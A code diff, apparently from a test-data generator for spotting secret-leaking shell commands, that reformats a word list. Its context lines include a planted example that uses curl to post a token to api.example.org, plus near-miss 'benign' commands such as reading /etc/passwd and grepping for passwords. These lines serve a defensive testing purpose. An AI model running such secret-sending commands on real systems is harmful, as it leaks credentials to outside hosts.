@@ -91,7 +91,9 @@ def planted(chance: random.Random) -> Iterator[tuple[str, list[str], str]]:
         yield "token", [value], f"curl https://api.example.org/x --data key-is {text}"
 
 
-_WORDS = ["alpha", "report", "backup", "nightly", "server", "config", "update", "main", "develop", "feature", "release", "stage", "worker", "queue", "cache", "index", "image", "build", "deploy", "metrics", "session", "login", "user", "admin", "daemon", "service", "token-bucket", "password-policy", "secretary", "keyboard", "author", "authority", "passenger", "compass", "pinned", "spinner", "bypass", "monkey", "turkey", "tokenizer", "credentials-file", "keyring", "passthrough"]
+_WORDS = """alpha report backup nightly server config update main develop feature release stage worker queue cache index image
+build deploy metrics session login user admin daemon service token-bucket password-policy secretary keyboard author authority passenger compass
+pinned spinner bypass monkey turkey tokenizer credentials-file keyring passthrough""".split()  # noqa: SIM905
 BENIGN = (
     "ls -la /etc/{w}", "grep -rn password /srv/{w}", "grep -i '{w} token' {w}.log", "cat /etc/passwd", "passwd -S {w}", "vim /etc/{w}/password.conf", "ssh -i ~/.ssh/{w} -p {n} {w}@192.0.2.{b}",
     "docker run -p {n}:{n} --name {w} {w}:latest", "docker ps --format {w}", "docker exec -u {n}:{n} -it {w} sh", "mkdir -p /srv/{w}/{w}", "cp -pr {w} {w}.bak", "tar -czpf {w}.tgz /srv/{w}",
